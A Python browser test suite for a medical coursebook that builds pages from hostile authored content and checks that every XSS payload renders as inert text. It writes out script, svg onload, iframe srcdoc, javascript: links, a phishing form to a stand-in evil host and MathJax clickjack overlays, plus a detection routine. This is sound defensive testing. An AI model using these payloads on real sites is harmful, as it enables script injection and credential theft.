"""Authored files cannot run script in a reader's browser (issue 12: F1, F3, F18).

A small book is built from hostile authored content, the way the course builds its own:

* a case file that **passes validation** but is full of Markdown/MyST syntax (substitutions,
  links to ``javascript:``, entities spelling ``<script>``, comments, directives, maths, remote
  images): its page (the ``{case}`` directive) and ``cases/index.md`` come from
  :mod:`coursebook.notebooks`;
* the payloads validation **refuses** (``<svg onload>``, ``<script>``, ``<details ontoggle>``,
  ``<iframe srcdoc>``, ``<a href=javascript:>``, a phishing ``<form>``, MathJax ``\\href`` /
  ``\\style`` / ``\\cssId`` / ``\\class``), put into a case model directly (skipping validation) and
  through the notebook generator (its Markdown cells built as a page): the escaping alone must
  make them inert;
* a quiz bank that passes validation with escaped HTML, entities, code spans and an http(s) link;
* a MyST page with MathJax ``\\href{javascript:...}`` and a full-page ``\\style`` clickjack overlay
  written straight into ``$...$`` (so MathJax's safe configuration is what is tested).

On every page: no dialog, no element injected by a payload (svg, script, iframe, form, inline
event handler, javascript: link), no console error, no request to another origin, and the payloads'
``window.bmPwned`` marker never set; clicking the maths (and anywhere) does nothing.
"""

from __future__ import annotations

import json
import os
import shutil
from typing import Any

import pytest
import yaml

from .conftest import ROOT, Site, build_book

pytestmark = pytest.mark.browser

PWN = "window.bmPwned=1;alert(document.domain)"

#: Accepted by `bonemets validate` (plain text with Markdown/MyST syntax): shown as typed.
ACCEPTED_TITLE = "Femur {{x}} *not emphasis* [click](javascript:window.bmPwned=1) `code` & co"
ACCEPTED_SUMMARY = "\n\n".join(
    [
        "% not a MyST comment",
        "# not a heading",
        "1. not a list",
        ":::{raw} html",
        "{raw}`html` &lt;script&gt;window.bmPwned=1&lt;/script&gt; and &#60;b&#62;",
        "Dose $x^2$ and $$y$$ and \\(z\\) and 5 <- 7 mg, (target)=, | a | b |",
        "![pixel](https://tracker.example.invalid/p.png) https://tracker.example.invalid/x",
        "{{ substitution }} {eval-rst}`.. raw:: html` ```{raw} html```",
    ]
)

#: Refused by validation; made inert by the escaping alone (rendered without validation here).
REFUSED = {
    "title": f'Lytic femur <svg onload="{PWN}"></svg>',
    "summary": f"<script>{PWN}</script>\n\n<details open ontoggle={PWN}><summary>x</summary></details>",
    "histology": f'<iframe srcdoc="<script>{PWN}</script>"></iframe>',
    "question": f"<a href=javascript:{PWN}>click</a> $\\href{{javascript:{PWN}}}{{maths link}}$",
    "answer": "<form action=https://evil.example.invalid/login><input name=pw></form> "
    "$\\style{position:fixed;top:0;left:0;width:100vw;height:100vh;background:red}{X}$ "
    "$\\cssId{overlay}{y}\\class{bm-quiz}{z}$",
}

BANK = """\
kind: quiz
chapter: radiotherapy
items:
  - id: radiotherapy.hostile_escaped
    type: single
    objective: radiotherapy.fractionation
    stem: >-
      Which is shown as text: \\<script\\>window.bmPwned=1\\</script\\>,
      &lt;svg onload=alert(1)&gt;, `<iframe srcdoc=x>` and $\\frac{1}{2}$?
    options:
      a: "All of them, as typed: &lt;form&gt;"
      b: "`<details open ontoggle=alert(1)>`"
    answer: a
    explanation: >-
      Raw HTML cannot be written in a bank; entities and code spans are text. A link to
      [an outside page](https://example.org/) opens only when clicked.
    citation: Author A et al., Journal 2020
  - id: radiotherapy.hostile_case
    type: single
    objective: radiotherapy.fractionation
    case: accepted_payloads
    stem: What does the case title show?
    options: {a: Its text, b: Markup}
    answer: a
    explanation: Case text is plain text.
    citation: Author A et al., Journal 2020
"""

MATHS_PAGE = f"""# Maths payloads

MathJax runs in safe mode: this link does nothing.

$\\href{{javascript:{PWN}}}{{CLICK-THE-MATHS}}$

$\\style{{position:fixed;top:0;left:0;width:100vw;height:100vh;opacity:0;z-index:99999}}{{\\href{{javascript:{PWN}}}{{X}} }}$

$\\cssId{{bm-overlay}}{{a}} + \\class{{bm-injected}}{{b}} = \\frac{{1}}{{2}}$

Ordinary maths still works: $E = mc^2$.
"""

QUIZ_PAGE = """# Quiz payloads

```{quiz} radiotherapy
```
"""

TOC = """\
format: jb-book
root: index
chapters:
  - file: chapters/maths
  - file: chapters/quiz
  - file: cases/index
  - file: cases/accepted_payloads
  - file: cases/refused_payloads
"""

INDEX = "# Authored content\n\nA book built from hostile authored files.\n"


def _case_data() -> dict[str, Any]:
    data = yaml.safe_load((ROOT / "cases" / "data" / "breast_lytic_femur.yaml").read_text())
    data["id"] = "accepted_payloads"
    data["teaching"]["title"] = ACCEPTED_TITLE
    data["teaching"]["summary"] = ACCEPTED_SUMMARY
    data["teaching"]["discussion"][0]["question"] = "What is $\\frac{1}{2}$ of {{x}}?"
    data["teaching"]["discussion"][0]["answer"] = "[see](javascript:window.bmPwned=1) **half**"
    return data


def _markdown_only(nb: Any) -> Any:
    """The generated notebook without its code cells (the Markdown is what is tested; nothing
    needs a kernel)."""
    nb.cells = [c for c in nb.cells if c.cell_type == "markdown"]
    return nb


@pytest.fixture(scope="module")
def authored_site(serve, tmp_path_factory: pytest.TempPathFactory) -> Site:
    from bonemets.cases.io import load_case
    from bonemets.patient import Case
    from coursebook.notebooks import case_notebook, case_page, index_markdown

    book = tmp_path_factory.mktemp("authored_book")
    shutil.copy(ROOT / "_config.yml", book / "_config.yml")
    shutil.copytree(ROOT / "references", book / "references")
    (book / "assets").symlink_to(ROOT / "assets", target_is_directory=True)
    (book / "chapters").mkdir()
    shutil.copy(ROOT / "chapters" / "objectives.yaml", book / "chapters" / "objectives.yaml")
    (book / "_toc.yml").write_text(TOC, encoding="utf-8")
    (book / "index.md").write_text(INDEX, encoding="utf-8")
    (book / "chapters" / "maths.md").write_text(MATHS_PAGE, encoding="utf-8")
    (book / "chapters" / "quiz.md").write_text(QUIZ_PAGE, encoding="utf-8")
    (book / "quizzes").mkdir()
    (book / "quizzes" / "radiotherapy.yaml").write_text(BANK, encoding="utf-8")
    data_dir = book / "cases" / "data"
    data_dir.mkdir(parents=True)

    accepted_file = data_dir / "accepted_payloads.yaml"
    accepted_file.write_text(yaml.safe_dump(_case_data(), allow_unicode=True), encoding="utf-8")
    accepted = load_case(accepted_file)  # passes validation
    raw = _case_data()
    raw["id"] = "refused_payloads"
    raw["teaching"]["title"] = REFUSED["title"]
    raw["teaching"]["summary"] = REFUSED["summary"]
    raw["primary"]["histology"] = REFUSED["histology"]
    raw["teaching"]["discussion"][0]["question"] = REFUSED["question"]
    raw["teaching"]["discussion"][0]["answer"] = REFUSED["answer"]
    refused = Case.model_validate(raw)  # the models alone: validation would refuse the text

    cases = {"accepted_payloads": accepted, "refused_payloads": refused}
    # The accepted case: its book page as generated ({case} directives, rendered from the file).
    # The refused one cannot have a page (the directive validates its file): its notebook's
    # Markdown, as Jupyter shows it, is built as a page instead.
    (book / "cases" / "accepted_payloads.md").write_text(case_page(accepted, book), "utf-8")
    cells = _markdown_only(case_notebook(refused, book)).cells
    (book / "cases" / "refused_payloads.md").write_text(
        "\n\n".join(c.source for c in cells) + "\n", encoding="utf-8"
    )
    (book / "cases" / "index.md").write_text(index_markdown(cases, book), encoding="utf-8")

    pythonpath = os.pathsep.join([str(ROOT / "src"), os.environ.get("PYTHONPATH", "")])
    html = build_book(book, env={"PYTHONPATH": pythonpath})
    pages = (
        "index.html",
        "chapters/maths.html",
        "chapters/quiz.html",
        "cases/index.html",
        "cases/accepted_payloads.html",
        "cases/refused_payloads.html",
    )
    return Site(html, serve(html), pages)


_INJECTED = """() => {
    const out = [];
    const bad = document.querySelectorAll(
        "svg[onload], iframe, form[action^='http' i], input[name='pw'], details[ontoggle], "
        + "a[href^='javascript' i], "
        + "[id='bm-overlay'], .bm-injected, img[src*='tracker']");
    bad.forEach((e) => out.push(e.outerHTML.slice(0, 120)));
    document.querySelectorAll("script").forEach((s) => {
        if (/bmPwned|alert\\(/.test(s.textContent || "") && s.type !== "application/json")
            out.push("script: " + s.textContent.slice(0, 80));
    });
    document.querySelectorAll("*").forEach((e) => {
        for (const a of e.attributes) {
            if (/^on/i.test(a.name) && /bmPwned|alert/.test(a.value)) out.push(e.tagName + " " + a.name);
        }
    });
    document.querySelectorAll("mjx-container [href], mjx-container a").forEach((e) => {
        const h = e.getAttribute("href") || "";
        if (!/^https?:/i.test(h)) out.push("maths link " + h.slice(0, 60));
    });
    document.querySelectorAll("mjx-container [style]").forEach((e) => {
        if (/position\\s*:\\s*fixed/i.test(e.getAttribute("style"))) out.push("maths overlay");
    });
    return out;
}"""


def _open(context: Any, site: Site, path: str) -> tuple[Any, dict[str, list[str]]]:
    seen: dict[str, list[str]] = {"dialogs": [], "console": [], "external": [], "pageerror": []}
    page = context.new_page()
    origin = site.base_url.rstrip("/")

    def route(r: Any) -> None:
        if r.request.url.startswith(origin) or r.request.url.startswith("data:"):
            r.continue_()
        else:
            seen["external"].append(r.request.url)
            r.abort()

    page.route("**/*", route)

    def on_dialog(d: Any) -> None:
        seen["dialogs"].append(d.message)
        d.dismiss()

    page.on("dialog", on_dialog)
    page.on("console", lambda m: m.type == "error" and seen["console"].append(m.text))
    page.on("pageerror", lambda e: seen["pageerror"].append(str(e)))
    page.goto(site.base_url + path, wait_until="networkidle")
    page.evaluate(
        """async () => { if (window.bonemetsMath) await window.bonemetsMath.load();
            if (window.MathJax && MathJax.startup && MathJax.startup.promise) {
            try { await MathJax.startup.promise; } catch (e) {} } }"""
    )
    page.wait_for_timeout(300)
    return page, seen


def _click_text(page: Any) -> None:
    """Click the middle of the first paragraph of the article (plain text, not a link): under a
    full-page overlay this click would land on the overlay."""
    box = page.locator("article p").first.bounding_box()
    if box:
        page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)


def _assert_inert(page: Any, seen: dict[str, list[str]], path: str) -> None:
    injected = page.evaluate(_INJECTED)
    pwned = page.evaluate("() => window.bmPwned")
    problems = [f"dialog: {d}" for d in seen["dialogs"]]
    problems += [f"console error: {c}" for c in seen["console"]]
    problems += [f"page error: {c}" for c in seen["pageerror"]]
    problems += [f"request to another origin: {u}" for u in seen["external"]]
    problems += [f"injected: {i}" for i in injected]
    if pwned is not None:
        problems.append(f"window.bmPwned = {pwned!r}")
    assert not problems, f"{path}:\n  " + "\n  ".join(problems)


PAGES = (
    "index.html",
    "chapters/maths.html",
    "chapters/quiz.html",
    "cases/index.html",
    "cases/accepted_payloads.html",
    "cases/refused_payloads.html",
)


@pytest.mark.parametrize("path", PAGES)
def test_page_is_inert(browser, authored_site: Site, path: str) -> None:
    assert path in authored_site.pages
    context = browser.new_context()
    try:
        page, seen = _open(context, authored_site, path)
        if path == "chapters/quiz.html":  # show every feedback (explanations, answers, citations)
            for fs in page.query_selector_all("fieldset.bm-q"):
                first = fs.query_selector("input")
                if first:
                    first.check(force=True)
                button = fs.query_selector("button.bm-check")
                if button and button.is_visible():
                    button.click()
            page.wait_for_timeout(300)
        # click plain text of the page (under a would-be overlay) and every piece of maths
        url = page.url
        _click_text(page)
        for m in page.query_selector_all("mjx-container")[:10]:
            if m.is_visible():
                m.click()
        page.wait_for_timeout(300)
        assert page.url == url, page.url
        _assert_inert(page, seen, path)
    finally:
        context.close()


def _text(page: Any, selector: str) -> str:
    """The text (closed <details> included), with Sphinx's smart quotes made straight again."""
    text = " ".join(str(page.text_content(selector) or "").split())
    return text.translate(str.maketrans("“”‘’", "\"\"''"))


def test_payloads_are_shown_as_typed(browser, authored_site: Site) -> None:
    """Inert, and still readable: the text of each payload is on its page, as typed."""
    context = browser.new_context()
    try:
        page, _ = _open(context, authored_site, "cases/refused_payloads.html")
        text = _text(page, "main")
        for needle in (
            '<svg onload="',
            "<script>window.bmPwned",
            "<iframe srcdoc=",
            "<form action",
        ):
            assert needle in text, needle
        page, _ = _open(context, authored_site, "cases/accepted_payloads.html")
        text = _text(page, "main")
        for needle in (
            "{{x}}",
            "*not emphasis*",
            "[click](javascript:",
            "% not a MyST comment",
            "# not a heading",
            "1. not a list",
            ":::{raw} html",
            "&lt;script&gt;",
            "![pixel](https://tracker.example.invalid/p.png)",
        ):
            assert needle in text, needle
        page, _ = _open(context, authored_site, "cases/index.html")
        assert ACCEPTED_TITLE in _text(page, "main")
        assert REFUSED["title"] in _text(page, "main")
        # the sidebar (toctree) shows the titles as text on every page
        nav = _text(page, "nav.bd-docs-nav")
        assert "Lytic femur <svg onload=" in nav
    finally:
        context.close()


def test_maths_href_is_not_a_link(browser, authored_site: Site) -> None:
    """\\href{javascript:...} in maths is not a link (the html extension is never loaded) and a
    click on it, or anywhere under the would-be overlay, does nothing."""
    context = browser.new_context()
    try:
        page, seen = _open(context, authored_site, "chapters/maths.html")
        assert page.query_selector_all("mjx-container"), "maths not typeset"
        state = page.evaluate(
            """() => ({
                safe: !!(window.MathJax && MathJax.config && MathJax.config.options
                         && MathJax.config.options.safeOptions),
                loaded: !!(window.MathJax && MathJax._ && MathJax._.ui && MathJax._.ui.safe),
                links: [...document.querySelectorAll("mjx-container a, mjx-container [href]")]
                    .map((e) => e.getAttribute("href")),
            })"""
        )
        assert state["safe"] and state["loaded"], state
        assert state["links"] == [], state
        for m in page.query_selector_all("mjx-container"):
            if m.is_visible():
                m.click()
        _click_text(page)
        page.wait_for_timeout(300)
        assert page.url == authored_site.base_url + "chapters/maths.html"
        _assert_inert(page, seen, "chapters/maths.html")
    finally:
        context.close()


def test_bank_json_on_the_page_is_strict(authored_site: Site) -> None:
    html = (authored_site.root / "chapters" / "quiz.html").read_text(encoding="utf-8")
    start = html.index('<script type="application/json" id="bm-quiz-data-radiotherapy">')
    body = html[html.index(">", start) + 1 : html.index("</script>", start)]
    data = json.loads(body, parse_constant=lambda c: pytest.fail(f"non-JSON constant {c}"))
    assert [i["id"] for i in data["items"]] == [
        "radiotherapy.hostile_escaped",
        "radiotherapy.hostile_case",
    ]
    stem = data["items"][0]["stem"]
    assert "&lt;script&gt;" in stem and "<script" not in stem and "<iframe" not in stem
